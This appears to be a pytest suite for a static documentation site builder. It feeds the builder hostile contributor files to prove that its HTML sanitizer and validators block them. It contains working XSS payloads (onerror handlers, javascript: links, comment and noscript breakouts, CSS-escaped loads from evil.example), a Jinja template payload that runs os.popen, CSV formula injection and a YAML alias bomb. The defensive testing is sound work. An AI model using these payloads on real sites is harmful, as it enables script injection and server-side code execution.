"""Hostile and broken files, as a contributor could send them: each is rejected with a precise message
(file, line, field, no traceback) or published with nothing live in any language.

The payloads in SLIPS_PAST_THE_SCANNER pass `kb check` (its patterns read the Markdown source, and
the browser reads the HTML differently); they are here to prove that the sanitizer (sanitize.py), not
the scanner, keeps published pages inert. Whatever is live is recognised independently of the code
under test: by BeautifulSoup's reading of the written HTML, and by Chromium running the pages.
"""
from __future__ import annotations

import csv
import io
import json
import os
import time
import tracemalloc
from pathlib import Path

import pytest
from bs4 import BeautifulSoup, Comment

from conftest import REPO, VALID_PRACTICE, build_site, check_reports, make_project, run_kb
from practicekb.checks.catalogue import Catalogue
from practicekb.core.problems import ProblemsFound
from practicekb.model.pipeline import ProjectPaths, knowledge_base
from practicekb.pages.sanitize import clean_html, clean_text
from practicekb.source.yamlsource import MAX_VALUES, YamlSyntaxError, parse_yaml

pytest_plugins = ["browser"]

# The hostile site's languages: English (the practice as written), Slovak (its hostile translation) and
# Slovenian (a hostile page translation; the practice untranslated). Lithuanian and Norwegian pages are
# built by the same code from the same kinds of input: the real site's tests cover them.
LANGUAGES = ("en", "sk", "sl")
CANARY = "KB-PWNED"

# Each passes the source checks today, and each is live in a browser without the sanitizer.
SLIPS_PAST_THE_SCANNER = {
    "comment a browser ends early": f"<!-- --!><script>alert('{CANARY}')</script> -->",
    "comment ended by '<!--!>'": f"<!--!><img src=x onerror=alert('{CANARY}')>-->",
    "style with a CSS escape loading another host": '<p style="background:u\\72l(https://evil.example/t.png)">styled</p>',
    "attribute list style loading another host": 'Styled text\n{: style="background-image:u\\72l(//evil.example/a.png)" }',
    "ping to another host": '<a href="https://example.org/" ping="https://evil.example/ping">ping</a>',
    "noscript breakout": f"<noscript><p title=\"</noscript><img src=x onerror=alert('{CANARY}')>\"></noscript>",
}

LIVE_ELEMENTS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
                 "button", "textarea", "select", "link", "meta", "base", "svg", "math", "template", "noscript"}
ADDRESS_ATTRIBUTES = {"href", "src", "srcset", "poster", "action", "formaction", "data", "ping", "background",
                      "xlink:href", "cite"}


def live_parts(html: str) -> list[str]:
    """Everything in a piece of HTML that can run code, load from another host or leave the page."""
    found = []
    soup = BeautifulSoup(html, "html.parser")
    # A browser ends a comment at "--!>" too, and anything after it is markup again.
    found += ["<!-- --!>" for comment in soup.find_all(string=lambda text: isinstance(text, Comment)) if "--!" in comment]
    for element in soup.find_all(True):
        if element.name in LIVE_ELEMENTS:
            found.append(f"<{element.name}>")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            plain = "".join(value.split()).lower().replace("\\", "/")  # browsers read \\ as / in addresses
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "ping"):
                found.append(f"<{element.name} {name}>")
            elif name in ADDRESS_ATTRIBUTES and plain.startswith(("javascript:", "data:", "vbscript:", "file:")):
                found.append(f"<{element.name} {name}={value[:30]}>")
            elif element.name in ("img", "video", "audio", "source") and name in ("src", "srcset", "poster") \
                    and (plain.startswith(("http:", "https:", "//")) or ":" in plain.split("/")[0]):
                found.append(f"<{element.name} {name}={value[:30]}>")
    return found


# --- the sanitizer on its own ---------------------------------------------------------------

HOSTILE_HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", "<math><mtext><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" JAVASCRIPT:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', '<a href="vbscript:x">x</a>', '<iframe srcdoc="<script>x</script>">',
    '<img src="https://evil.example/pixel.gif">', '<img src="//evil.example/pixel.gif">', '<img src="\\\\evil.example\\p.gif">',
    '<img srcset="https://evil.example/a.png 2x">', '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>',
    '<p style="background:url(https://evil.example/x)">x</p>', "<style>@import 'https://evil.example/x.css'</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">', '<form action="https://evil.example/"><input name=q><button>go</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">', '<details open ontoggle=alert(1)>x</details>',
    '<a href="https://example.org/" ping="https://evil.example/">x</a>', "<!-- --!><script>alert(1)</script> -->",
    '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<div id="x" class="y" data-x="1" onclick="alert(1)">x</div>', "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
]


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
def test_the_sanitizer_leaves_nothing_live(hostile):
    assert live_parts(hostile), f"the checker must see {hostile!r} as live"  # so the next line can fail
    assert live_parts(clean_html(hostile)) == []


def test_the_sanitizer_keeps_what_practices_need():
    html = ('<h2 id="results">Results<a class="headerlink" href="#results" title="Permanent link">¶</a></h2>'
            '<p lang="sl">Text with <strong>bold</strong>, <em>stress</em>, <a href="../../themes/health/">a theme</a>, '
            '<a href="https://example.org/report">a report</a>, <a href="mailto:info@example.org">mail</a>, '
            'H<sub>2</sub>O, 10<sup>3</sup>, <abbr title="Asylum, Migration and Integration Fund">AMIF</abbr>.</p>'
            '<table><thead><tr><th align="left">Year</th></tr></thead><tbody><tr><td align="left">2021</td></tr></tbody></table>'
            '<details><summary>More</summary><p>Hidden</p></details><img alt="Logo" src="../../assets/logo.png">'
            '<ol start="3"><li>three</li></ol><div class="admonition note"><p class="admonition-title">Note</p></div>'
            '<p>KBFRAGMENTabcdefN0</p>')
    assert clean_html(html) == html


def test_text_for_titles_and_contents_is_escaped_once_quotes_too():
    assert clean_text('Q&amp;A <b>now</b> "quoted"') == "Q&amp;A now &quot;quoted&quot;"
    assert clean_text(clean_text('x" onmouseover="alert(1)"')) == "x&quot; onmouseover=&quot;alert(1)&quot;"
    assert "<" not in clean_text("<script>alert(1)</script><img src=x onerror=alert(1)>")


def test_interface_strings_are_escaped_where_shown_and_plain_as_text():
    words = Catalogue("en", {"m": "Tom & <b>{name}</b>"})
    assert words.t("m", name="<i>x</i>") == "Tom &amp; &lt;b&gt;&lt;i&gt;x&lt;/i&gt;&lt;/b&gt;"
    assert words.text("m", name="x") == "Tom & <b>x</b>"


# --- built pages in every language -------------------------------------------------------------

HOSTILE_BODY = "\n\n".join(SLIPS_PAST_THE_SCANNER.values())
TOC_HEADING = "## Steps &lt;img src=x onerror=alert(1)&gt; taken"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    """A project in three languages whose practice, its translation and a page translation carry
    every payload the scanner misses, and a new hand-written page (not a maintainers' macro page) that
    asks for macros and carries the same payloads; built once for the module's tests."""
    root = tmp_path_factory.mktemp("hostile")
    practice = VALID_PRACTICE + "\n" + TOC_HEADING + "\n\n" + HOSTILE_BODY + "\n"
    translation = ("---\ntitle: Testovací orgán\nsummary: >-\n  Vymyslený príklad pre testy: obec a mimovládna organizácia "
                   "zriadili orgán.\n---\n\n## Kontext\n\n" + HOSTILE_BODY + "\n")
    project = make_project(root / "project", {"testtown.md": practice, "testtown.sk.md": translation},
                           vocabularies=REPO / "vocabularies", languages=LANGUAGES)
    (project / "docs" / "about.sl.md").write_text(
        "---\ntitle: 'O strani \" onmouseover=\"alert(1)'\ndescription: 'Opis\" onfocus=\"alert(1)'\n---\n\n"
        "# O strani\n\n" + HOSTILE_BODY + "\n", encoding="utf-8")
    (project / "docs" / "notes.md").write_text(
        "---\nrender_macros: true\n---\n\n# Notes\n\n{{ lipsum.__globals__['os'].popen('touch evaluated').read() }}\n\n"
        + HOSTILE_BODY + "\n",  # a new hand-written page comes in a pull request too: sanitized like the rest
        encoding="utf-8")
    check = run_kb(project, "check")
    assert check.returncode == 0, check.stdout  # every payload passes the scanner: the sanitizer must hold
    site = root / "site"
    result = build_site(project, site)
    assert result.returncode == 0, result.stderr
    assert not (project / "evaluated").exists()
    return site


# What the site's own templates put into a page's article (Material's edit button with its icon, the
# share panel with its buttons), removed before the article is checked for what contributors sent.
TRUSTED_PARTS = ".md-content__button, .kb-share"


def hostile_pages(site: Path) -> list[Path]:
    pages = []
    for code in LANGUAGES:
        folder = site if code == "en" else site / code
        pages += [folder / "practices" / "testtown" / "index.html", folder / "about" / "index.html",
                  folder / "notes" / "index.html", folder / "index.html"]
    return pages


def test_no_payload_is_live_on_any_page_in_any_language(hostile_site):
    for path in hostile_pages(hostile_site):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        article = soup.find("article")
        assert article is not None, path
        for trusted in article.select(TRUSTED_PARTS):
            trusted.decompose()
        assert live_parts(str(article)) == [], path
        assert live_parts(str(soup.find("nav", class_="md-nav--secondary") or "")) == [], path
        assert live_parts(str(soup.head.title)) == [] and "<b>" not in soup.head.title.decode_contents(), path
        for script in soup.find_all("script"):
            assert CANARY not in script.get_text(), path


def test_what_the_sanitizer_keeps_is_still_shown(hostile_site):
    practice = BeautifulSoup((hostile_site / "practices/testtown/index.html").read_text(encoding="utf-8"), "html.parser")
    assert "Testtown had no place where services met." in practice.get_text()
    assert "styled" in practice.get_text() and practice.find("a", string="ping")["href"] == "https://example.org/"
    heading = practice.find("h2", id=lambda i: i and i.startswith("steps"))
    assert heading is not None and "<img src=x onerror=alert(1)>" in heading.get_text()
    toc_titles = [a.get_text(" ", strip=True) for a in practice.select("nav.md-nav--secondary a")]
    assert any("onerror=alert(1)" in title for title in toc_titles)  # as text, not as an element


def test_a_page_that_is_not_a_maintainers_macro_page_shows_its_jinja_as_text(hostile_site):
    notes = (hostile_site / "notes" / "index.html").read_text(encoding="utf-8")
    assert "popen(&#39;touch evaluated&#39;)" in notes or "popen('touch evaluated')" in notes


def test_a_page_translation_title_and_description_are_text(hostile_site):
    about = BeautifulSoup((hostile_site / "sl" / "about" / "index.html").read_text(encoding="utf-8"), "html.parser")
    assert about.head.title.get_text().startswith('O strani " onmouseover="alert(1)')
    description = about.head.find("meta", attrs={"name": "description"})
    assert description["content"] == 'Opis" onfocus="alert(1)' and "onfocus" not in description.attrs


def test_no_absolute_path_of_the_build_machine_is_published(hostile_site):
    root = str(hostile_site.parent)
    for path in hostile_site.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".xml", ".json", ".csv", ".txt", ".svg"):
            assert root not in path.read_text(encoding="utf-8", errors="replace"), path


def test_hostile_pages_run_nothing_and_load_nothing_from_other_hosts_in_chromium(
        hostile_site, serve_site, page, offsite_requests, page_errors):
    base = serve_site(hostile_site)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    for path in hostile_pages(hostile_site):
        page.goto(base + str(path.relative_to(hostile_site).parent.as_posix()).removeprefix(".") + "/")
        page.wait_for_load_state("load")
        page.mouse.move(5, 5)
        assert page.evaluate("() => document.title").strip(), path
    assert dialogs == [] and offsite_requests == [] and page_errors == []


# --- rejected with a precise message ----------------------------------------------------------

def practice_with(**fields: str) -> str:
    """VALID_PRACTICE with some lines replaced: field name -> the whole new line(s)."""
    text = VALID_PRACTICE
    for field, line in fields.items():
        start = text.index(f"\n{field}:") + 1
        end = text.index("\n", start)
        text = text[:start] + line + text[end:]
    return text


STATUS_LINE = VALID_PRACTICE.split("\n").index("status: active") + 1
AFTER_STATUS = STATUS_LINE + 1
PLACE_LINE = VALID_PRACTICE.split("\n").index("place: Testtown") + 1
ORGANISATION_LINE = VALID_PRACTICE.split("\n").index("  - {id: pina, role: lead}") + 1

REJECTED = {  # case: (practice files, expected start of a line, a fragment of its hint)
    "NaN amount": ({"p.md": practice_with(status="status: active\nfunding:\n  - {funder: amif, amount: .nan, currency: EUR}")},
                   f"practices/p.md:{AFTER_STATUS + 1}: funding[1].amount: nan is not a number", "write the number itself"),
    "infinite amount": ({"p.md": practice_with(status="status: active\nfunding:\n  - {funder: amif, amount: .inf}")},
                        f"practices/p.md:{AFTER_STATUS + 1}: funding[1].amount: inf is not a number", "write the number itself"),
    "control character as an escape": ({"p.md": practice_with(place='place: "Test\\atown"')},
                                       f"practices/p.md:{PLACE_LINE}: place: contains the control character U+0007", "\\u0007"),
    "C1 control as an escape": ({"p.md": practice_with(place='place: "Test\\x85town"')},
                                f"practices/p.md:{PLACE_LINE}: place: contains the control character U+0085", "delete it"),
    "title of spaces": ({"p.md": practice_with(title='title: "        "')},
                        "practices/p.md:2: title: is blank", "write the text"),
    "unknown currency": ({"p.md": practice_with(status="status: active\nfunding:\n  - {funder: amif, amount: 10, currency: EUX}")},
                         f"practices/p.md:{AFTER_STATUS + 1}: funding[1].currency: unknown currency code 'EUX'", "ISO 4217"),
    "index as a slug": ({"index.md": VALID_PRACTICE}, "practices/index.md:1: file name: 'index.md' is reserved",
                        "rename the file"),
    "tab for indentation": ({"p.md": VALID_PRACTICE.replace("  - {id: pina, role: lead}", "\t- {id: pina, role: lead}")},
                            f"practices/p.md:{ORGANISATION_LINE}: YAML: syntax error: a tab is used", "replace each tab"),
    "number as a key": ({"p.md": practice_with(status="status: active\n2020: x")},
                        f"practices/p.md:{AFTER_STATUS}: 2020: unknown field", "allowed fields"),
    "e-mail that is not one": ({"p.md": practice_with(status="status: active\ncontact: {email: nobody}")},
                               f"practices/p.md:{AFTER_STATUS}: contact.email: 'nobody' is not an e-mail address", "info@example.org"),
    "alias bomb": ({"p.md": VALID_PRACTICE.replace("status: active", "status: active\n" + "\n".join(
        [f"x{i}: &x{i} [" + ", ".join([f"*x{i - 1}"] * 10) + "]" if i else "x0: &x0 [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]"
         for i in range(9)]))}, "practices/p.md:", "anchors (&name) and aliases (*name) are not needed"),
    "deep nesting": ({"p.md": practice_with(place="place: " + "[" * 60 + "]" * 60)},
                     f"practices/p.md:{PLACE_LINE}: YAML: nests lists and mappings more than 40 levels deep", "check the brackets"),
    "huge file": ({"p.md": VALID_PRACTICE + "x" * 1_100_000}, "practices/p.md:1: file: is 1.1 MB", "link to long documents"),
}


@pytest.mark.parametrize("case", list(REJECTED))
def test_broken_practice_is_rejected_precisely_in_process(tmp_path, case):
    files, expected, hint = REJECTED[case]
    project = make_project(tmp_path / "p", files)
    with pytest.raises(ProblemsFound) as raised:
        knowledge_base(ProjectPaths.at(project))
    lines = [problem.human() for problem in raised.value.problems]
    matching = [line for line in lines if line.startswith(expected)]
    assert matching, "\n".join(lines)
    assert hint in matching[0]


def test_csv_cells_that_a_spreadsheet_would_run_are_inert(tmp_path):
    practice = practice_with(place='place: "=HYPERLINK(\\"https://evil.example\\")"', title="title: '@SUM(1+1) body'")
    project = make_project(tmp_path / "p", {"p.md": practice})
    assert build_site(project, tmp_path / "site").returncode == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "site/data/practices.csv").read_text(encoding="utf-8-sig"))))
    assert rows[0]["place"] == "'=HYPERLINK(\"https://evil.example\")" and rows[0]["title"] == "'@SUM(1+1) body"
    data = json.loads((tmp_path / "site/data/practices.json").read_text(encoding="utf-8"))
    assert data["practices"][0]["place"] == '=HYPERLINK("https://evil.example")'  # the data itself is unchanged


def test_a_funder_that_is_its_own_parent_is_rejected(tmp_path):
    project = make_project(tmp_path / "p", {"p.md": VALID_PRACTICE})
    funders = project / "vocabularies" / "funders.yml"
    text = funders.read_text(encoding="utf-8")
    terms = text.index("\nterms:")
    first_id = text[terms:].split("- id: ", 1)[1].split("\n", 1)[0].strip()
    funders.write_text(text[:terms] + text[terms:].replace(f"- id: {first_id}\n", f"- id: {first_id}\n    parent: {first_id}\n", 1),
                       encoding="utf-8")
    check_reports(project, "vocabularies/funders.yml:", f"'{first_id}' is its own parent")


def test_markup_in_interface_strings_and_vocabularies_is_rejected_with_file_line_and_key(tmp_path):
    project = make_project(tmp_path / "p", {"p.md": VALID_PRACTICE}, languages=("en", "sk"))
    strings = project / "translations" / "sk.yml"
    text = strings.read_text(encoding="utf-8")
    line = next(i for i, row in enumerate(text.split("\n"), 1) if row.startswith("  home.browse:"))
    strings.write_text(text.replace('  home.browse: "', '  home.browse: "<img src=x onerror=alert(1)>', 1), encoding="utf-8")
    themes = project / "vocabularies" / "themes.yml"
    themes.write_text(themes.read_text(encoding="utf-8").replace("label: {en: ", "label: {en: <b>Bold</b> ", 1),
                      encoding="utf-8")
    result = run_kb(project, "check")
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    assert f"translations/sk.yml:{line}: messages.home.browse: contains markup '<img src=x onerror=alert(1)>'" in result.stdout
    assert any(row.startswith("vocabularies/themes.yml:") and "label.en: contains markup '<b>'" in row
               for row in result.stdout.splitlines()), result.stdout


def test_a_page_translation_cannot_ask_for_macros_and_jinja_in_it_is_never_run(tmp_path):
    project = make_project(tmp_path / "p", {"p.md": VALID_PRACTICE}, languages=("en", "sk"))
    (project / "docs" / "about.sk.md").write_text(
        "---\ntitle: O stránke\nrender_macros: true\ntemplate: main.html\n---\n\n# O stránke\n\n"
        "{{ lipsum.__globals__['os'].popen('touch evaluated').read() }}\n", encoding="utf-8")
    result = check_reports(project, "docs/about.sk.md:3: render_macros: a translation never renders macros", "remove it")
    assert "docs/about.sk.md:4: template: unknown field" in result.stdout
    assert "docs/about.sk.md:9: body: contains a template expression" in result.stdout
    assert build_site(project, tmp_path / "site").returncode != 0
    assert not (project / "evaluated").exists()


@pytest.mark.parametrize("folder", ["practices", "vocabularies", "translations", "docs"])
def test_a_link_out_of_the_repository_is_rejected_by_name(tmp_path, folder):
    outside = tmp_path / "secret.md"
    outside.write_text(VALID_PRACTICE, encoding="utf-8")
    project = make_project(tmp_path / "p", {"p.md": VALID_PRACTICE}, languages=("en", "sk"))
    name = {"practices": "linked.md", "vocabularies": "themes.yml", "translations": "sk.yml", "docs": "linked.md"}[folder]
    link = project / folder / name
    link.unlink(missing_ok=True)
    os.symlink(outside, link)
    result = check_reports(project, f"{folder}/{name}:1: file: is a symbolic link to a file outside the repository",
                           "replace the link with the file itself")
    assert str(tmp_path) not in result.stdout
    assert build_site(project, tmp_path / "site").returncode != 0


# --- bounded parsing, measured ------------------------------------------------------------------

def test_an_alias_bomb_is_refused_in_bounded_time_and_memory():
    bomb = "a: &a [" + ", ".join(["x"] * 10) + "]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [" + ", ".join([f"*{chr(97 + i)}"] * 10) + "]\n" for i in range(9))
    tracemalloc.start()
    started = time.process_time()
    with pytest.raises(YamlSyntaxError) as raised:
        parse_yaml(bomb)  # 10^10 values once expanded
    seconds = time.process_time() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert f"more than {MAX_VALUES:,} values" in raised.value.message
    assert seconds < 2 and peak < 50_000_000, (seconds, peak)


def test_every_problem_of_a_hostile_collection_in_one_run_without_a_traceback(tmp_path):
    files = {name: content for case in REJECTED.values() for name, content in case[0].items() if name != "p.md"}
    files.update({f"case-{number}.md": case[0]["p.md"] for number, case in enumerate(REJECTED.values()) if "p.md" in case[0]})
    result = run_kb(make_project(tmp_path / "p", files), "check")
    assert result.returncode == 1 and "Traceback" not in result.stdout + result.stderr
    assert len({line.split(":")[0] for line in result.stdout.splitlines() if line.startswith("practices/")}) == len(files)
